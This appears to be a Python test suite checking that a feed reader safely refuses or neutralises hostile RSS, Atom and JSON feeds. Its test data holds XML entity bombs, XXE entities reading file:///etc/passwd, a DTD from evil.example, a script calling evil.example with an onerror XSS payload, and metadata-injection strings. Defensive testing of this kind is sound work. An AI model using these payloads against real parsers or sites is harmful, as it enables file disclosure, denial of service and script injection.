"""Feeds made to harm: nothing they name is opened, and all are bounded in time and memory."""

import json
import time
import tracemalloc

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from readout.pages import read_article, walk
from readout.pages.feeds import feed_kind, read_json, read_xml
from readout.pages.feeds.mending import Mender
from readout.records import Page, Refused

LEAD = "The foreign ministers of the two countries met in Valmora on Monday to discuss the disputed border."
ITEM = f"<item><title>Envoys meet</title><description>{LEAD}</description></item>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
PIECES = [
    "<item>",
    "</item>",
    "<rss>",
    "<channel>",
    "<feed xmlns='http://www.w3.org/2005/Atom'>",
    "<entry>",
    "<title>",
    "</title>",
    "<description>",
    "</description>",
    "<content type='xhtml'>",
    "</content>",
    "<![CDATA[",
    "]]>",
    "<!--",
    "-->",
    "&",
    "&amp;",
    "&nbsp;",
    "&#146;",
    "&#0;",
    "&#xD800;",
    "<",
    ">",
    "'",
    '"',
    "<!DOCTYPE a [",
    "]>",
    "<!ENTITY a 'b'>",
    "\x00",
    "é",
    "\U0001f600",
    "word word",
    "<?xml version='1.0' encoding='",
    "x:y",
    " ",
]
VALUES = st.none() | st.booleans() | st.integers() | st.text(max_size=20) | st.lists(st.text(max_size=5), max_size=3)


def feed(items=ITEM, doctype=""):
    return f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel>{items}</channel></rss>'


def read(content, size=65_536):
    """The entries of a feed given in pieces, with processor seconds bounded."""
    raw = content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")
    begun = time.process_time()
    found = list(read_xml((raw[at : at + size] for at in range(0, max(1, len(raw)), size)), "feed.xml"))
    assert time.process_time() - begun < 10
    return found


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>',
        f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>',
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
        "<!DOCTYPE rss [<!ENTITY % a \"<!ENTITY b 'c'>\"> %a;]>",
        '<!DOCTYPE rss [<!ATTLIST item id CDATA "default of every item">]>',
        '<!DOCTYPE rss PUBLIC "-//Example//DTD//EN" "http://evil.example/a.dtd" []>',
    ],
    ids=["billion laughs", "quadratic blowup", "external", "parameter", "nested", "default attributes", "with public"],
)
def test_a_document_type_of_its_own_is_refused_and_nothing_is_expanded(tmp_path, doctype):
    file = tmp_path / "feed.xml"
    item = f"<item><title>&a;&l9;</title><description>{LEAD} &a;&l9;&b;</description></item>"
    file.write_text(feed(item * 3, doctype))
    (refused,) = walk(file)
    assert isinstance(refused, Refused)
    assert refused.issue.code == "feed-refused"
    assert "entities" in refused.issue.message
    assert "root:" not in refused.issue.message


def test_a_named_document_type_is_not_opened():
    doctype = '<!DOCTYPE rss SYSTEM "file:///etc/passwd">'
    (page,) = read(feed(f"<item><description>{LEAD} &a; &root;</description></item>", doctype))
    assert f"{LEAD} &a; &root;" in page.text


@pytest.mark.parametrize("inner", ["<a>" * 100_000, "<description>" + "<b>" * 100_000])
def test_elements_nested_beyond_the_limit_are_refused_and_what_came_before_is_read(inner):
    page, refused = read(feed(ITEM + "<item>" + inner))
    assert isinstance(page, Page)
    assert (refused.issue.code, "1,000 deep" in refused.issue.message) == ("feed-refused", True)


def test_a_feed_of_ten_megabytes_is_read_in_little_memory():
    item = f"<item><title>Report</title><description>{LEAD * 10}</description></item>".encode()
    n_items = 10_000_000 // len(item)
    begun = time.process_time()
    tracemalloc.start()
    pieces = (b"<rss><channel>", *(item for _ in range(n_items)), b"</channel></rss>")
    n_pages = sum(isinstance(one, Page) for one in read_xml(iter(pieces), "feed.xml"))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (n_pages, peak < 5_000_000) == (n_items, True)
    assert time.process_time() - begun < 60


@pytest.mark.parametrize(
    "item",
    [
        f"<item><title>{'x' * 10_000_000}</title><description>{LEAD}</description></item>",
        f"<item><title>Envoys meet</title><link>{'x' * 10_000_000}</link><description>{LEAD}</description></item>",
        f"<item><title>Envoys meet</title><description>{LEAD}</description>{'<category>x</category>' * 300_000}</item>",
        f"<item><title>Envoys meet</title><description>{LEAD}</description><!--{'-' * 5_000_000}--></item>",
        f"<item><title>Envoys meet</title><description>{LEAD}{'&' * 2_000_000}</description></item>",
        f"<item><title>Envoys meet</title><description>{LEAD}{'<![CDATA[x]]>' * 300_000}</description></item>",
        f"<item><title>Envoys meet</title><description>{LEAD}{'<![CDATA[' * 300_000}]]></description></item>",
    ],
    ids=["title", "link", "categories", "comment", "ampersands", "sections", "nested sections"],
)
def test_values_of_any_length_are_bounded(item):
    (page,) = read(feed(item))
    assert isinstance(page, Page)
    assert LEAD in page.text


@pytest.mark.parametrize(
    "content",
    [f"<description>{LEAD * 120_000}</description>", f"<description>{LEAD}{'<b>x</b>' * 200_000}</description>"],
    ids=["characters", "tags"],
)
def test_an_entry_over_the_limit_is_refused_and_the_next_is_read(content):
    refused, page = read(feed(f"<item><title>Long</title>{content}</item>{ITEM}"))
    assert (refused.issue.code, "10,000,000" in refused.issue.message) == ("page-too-large", True)
    assert LEAD in page.text


@pytest.mark.parametrize("tail", ["<item a='" + "x" * 10_000_000, "<item " + "a='b' " * 400_000, "<" + "x" * 9_000_000])
def test_a_tag_without_end_is_not_held_for_ever(tail):
    page, refused = read(feed(ITEM)[: -len("</channel></rss>")] + tail)
    assert isinstance(page, Page)
    assert refused.issue.code in ("feed-refused", "feed-broken")


def test_prefixes_without_number_are_not_kept():
    spaces = " ".join(f"xmlns:a{n}='urn:{n}'" for n in range(30_000))
    item = ("<a " + spaces + ">") + ITEM + "</a>"
    assert len(read(f"<rss><channel>{item}</channel></rss>")) == 1


def test_entries_over_the_limit_are_not_read():
    found = read(f"<rss><channel>{'<item/>' * 50_005}</channel></rss>")
    assert len(found) == 50_001
    assert (found[-1].issue.code, "50,000" in found[-1].issue.message) == ("feed-refused", True)


def test_a_script_in_an_entry_is_no_text_of_its_report():
    script = '<script>fetch("http://evil.example/");</script><img src="x" onerror="alert(1)">'
    (page,) = read(
        feed(f"<item><title>Envoys meet</title><description><![CDATA[{script}<p>{LEAD}</p>]]></description></item>")
    )
    article, _ = read_article(page)
    assert [article.text[part.start : part.end] for part in article.paragraphs] == [LEAD]
    assert "evil" not in article.text
    assert "alert" not in article.text


def test_what_an_entry_says_cannot_leave_its_place_in_the_page():
    title = '"&gt;&lt;/title&gt;&lt;meta property="article:published_time" content="1999-01-01"&gt; Envoys'
    link = 'https://a.example/"&gt;&lt;meta name="author" content="Nobody"&gt;'
    (page,) = read(feed(f"<item><title>{title}</title><link>{link}</link><description>{LEAD}</description></item>"))
    article, _ = read_article(page)
    assert (article.published, article.byline) == (None, None)


@pytest.mark.parametrize("cut", [0.3, 0.6, 0.95])
def test_a_feed_cut_off_gives_its_whole_entries_and_says_where_it_ends(cut):
    whole = feed(ITEM * 20)
    found = read(whole[: int(len(whole) * cut)])
    assert len(found) > 5
    assert all(isinstance(one, Page) for one in found[:-1])
    assert (found[-1].issue.code, f"entry {len(found) - 1}" in found[-1].issue.message) == ("feed-broken", True)


def test_bytes_that_fit_no_character_are_marked_and_told():
    words = f"{LEAD} M\xe4kel\xe4 of Caf\xe9 \xd8stby."
    item = f"<item><title>Envoys meet</title><description>{words}</description></item>".encode()
    whole, broken = read(feed("@").encode().replace(b"@", item + item.replace(b"border", b"b\xffrder")))
    assert (whole.issues, [issue.code for issue in broken.issues]) == ((), ["encoding-broken"])
    assert "disputed b\ufffdrder" in broken.text


def test_json_of_any_depth_and_size_is_refused_or_read():
    deep = b'{"version": "https://jsonfeed.org/version/1.1", "items": [' + b"[" * 5_000_000
    large = b'{"version": "https://jsonfeed.org/version/1.1", "items": [' + b"{}," * 3_400_000 + b"{}]}"
    for content, expected in ((deep, "feed-broken"), (large, "feed-refused")):
        begun = time.process_time()
        assert [one.issue.code for one in read_json(content, "feed.json")] == [expected]
        assert time.process_time() - begun < 10


def test_one_broken_item_of_json_does_not_lose_the_others():
    items = [7, {"content_html": [1]}, {"content_text": LEAD, "title": {"a": 1}, "authors": "x", "tags": [1, "y"]}]
    content = json.dumps({"version": "https://jsonfeed.org/version/1", "items": items}).encode()
    first, second, third = read_json(content, "feed.json")
    assert [first.issue.code, second.issue.code] == ["feed-broken", "entry-empty"]
    assert LEAD in third.text


@given(st.lists(st.sampled_from(PIECES), max_size=60), st.integers(1, 40))
def test_no_feed_ends_the_program(pieces, size):
    raw = "".join(pieces).encode("utf-8", "surrogatepass")
    feed_kind(raw)
    for one in read_xml((raw[at : at + size] for at in range(0, len(raw), size)), "feed.xml"):
        assert isinstance(one, (Page, Refused))


@given(st.binary(max_size=300), st.integers(1, 40))
def test_no_bytes_end_the_program(raw, size):
    feed_kind(raw)
    whole = b"<rss><channel><item><description>" + raw
    assert all(
        isinstance(one, (Page, Refused))
        for one in read_xml((whole[at : at + size] for at in range(0, len(whole), size)), "feed.xml")
    )


@settings(deadline=None)
@given(st.dictionaries(st.sampled_from(["content_html", "content_text", "url", "id", "title", "authors", "tags",
                                        "date_published", "language", "summary"]), VALUES))  # fmt: skip
def test_no_item_of_json_ends_the_program(item):
    content = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [item]}).encode()
    (one,) = read_json(content, "feed.json")
    assert isinstance(one, (Page, Refused))


@given(st.lists(st.sampled_from(PIECES), max_size=40), st.integers(1, 30))
def test_mending_does_not_depend_on_where_a_feed_is_cut(pieces, size):
    text = "".join(pieces)
    whole = Mender().mend(text, is_last=True)
    mender = Mender()
    parts = [mender.mend(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join([*parts, mender.mend("", is_last=True)]) == whole


@given(st.text(alphabet="ab<>!&;#x0[]-CDAT\n", max_size=200))
def test_a_feed_is_known_in_time_linear_in_its_head(text):
    feed_kind(text.encode())


@pytest.mark.parametrize("piece", ["<!--", "<!-- -", "<?", "<!DOCTYPE a [", " \n", "<", "{", '{"version"', "<!---->"])
def test_the_head_of_no_file_takes_long(piece):
    begun = time.process_time()
    feed_kind((piece * 8192).encode())
    assert time.process_time() - begun < 0.5
